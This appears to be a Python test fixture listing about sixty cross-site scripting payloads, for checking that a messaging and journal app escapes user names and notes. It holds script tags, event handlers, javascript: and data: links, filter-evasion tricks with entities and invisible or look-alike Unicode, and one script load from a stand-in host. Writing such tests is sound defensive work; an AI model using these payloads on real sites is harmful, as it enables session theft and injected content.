"""Script-injection attempts people could type into a message, a journal note or their name.

Each one, if it ever ran, would call window.__xss(n) (or alert/confirm/prompt), which the test
page records. Kinds: script tags, event handlers, javascript:/data: links, SVG and MathML,
markdown links and images, HTML entities, and Unicode tricks (look-alike letters, invisible and
direction-changing characters, full-width brackets).
"""

from __future__ import annotations

_RAW = [
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>__xss(2)",
    "<img src=x onerror=__xss(3)>",
    '<img src=x onerror="__xss(4)">',
    "<svg onload=__xss(5)>",
    "<svg><script>__xss(6)</script></svg>",
    "<body onload=__xss(7)>",
    '<iframe src="javascript:__xss(8)"></iframe>',
    '<a href="javascript:__xss(9)">tap me</a>',
    '<a href="JaVaScRiPt:__xss(10)">tap me</a>',
    "javascript:__xss(11)",
    "JAVASCRIPT:__xss(12)//https://example.org",
    " javascript:__xss(13)",
    "java\tscript:__xss(14)",
    "jav&#x09;ascript:__xss(15)",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxNik8L3NjcmlwdD4=",
    '<object data="javascript:__xss(17)">',
    '<embed src="javascript:__xss(18)">',
    "<input autofocus onfocus=__xss(19)>",
    "<details open ontoggle=__xss(20)>",
    '<video><source onerror="__xss(21)"></video>',
    "<audio src=x onerror=__xss(22)>",
    "<marquee onstart=__xss(23)>hi</marquee>",
    '<div style="background:url(javascript:__xss(24))">',
    "<style>@import 'javascript:__xss(25)';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(26)>",
    "<svg><animate onbegin=__xss(27) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:__xss(28)"><text x=20 y=20>tap</text></a></svg>',
    '<form action="javascript:__xss(29)"><button>go</button></form>',
    '<button formaction="javascript:__xss(30)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(31)">',
    '<base href="javascript:__xss(32)//">',
    '<link rel=import href="data:text/html,<script>__xss(33)</script>">',
    '"><script>__xss(34)</script>',
    "'><img src=x onerror=__xss(35)>",
    "</textarea><script>__xss(36)</script>",
    "</title><script>__xss(37)</script>",
    "{{constructor.constructor('__xss(38)')()}}",
    "${__xss(39)}",
    "[tap me](javascript:__xss(40))",
    "![photo](javascript:__xss(41))",
    "[tap](data:text/html,<script>__xss(42)</script>)",
    '<https://example.org" onmouseover="__xss(43)>',
    'https://example.org/"onmouseover="__xss(44)',
    "https://example.org/<img src=x onerror=__xss(45)>",
    "&lt;script&gt;__xss(46)&lt;/script&gt;",
    "&#60;img src=x onerror=__xss(47)&#62;",
    "\uff1cscript\uff1e__xss(48)\uff1c/script\uff1e",
    "https://ex\u0430mple.org/login",
    "https://example.org/\u202egnp.exe",
    "java\u200bscript:__xss(51)",
    "<img src=x o\u200bnerror=__xss(52)>",
    "\u202e<script>__xss(53)</script>",
    "<svg/onload=__xss(54)//",
    "<img src=`x`onerror=__xss(55)>",
    "<x onclick=__xss(56)>click me</x>",
    '<a href="#" onclick="__xss(57)">tap me</a>',
    "<img src=x:alert(alt) onerror=eval(src) alt=58>",
    "<script>alert(59)</script>",
    "<scr<script>ipt>__xss(60)</script>",
]

# Each payload in full: short enough for a name (120 letters) and a note.
PAYLOADS: list[str] = [p[:120] for p in _RAW]

# The names of people are payloads too (shown to themselves and to the care team).
NAME_PAYLOADS: list[str] = [
    "<img src=x onerror=__xss(101)>",
    "<script>__xss(102)</script> Lee",
]
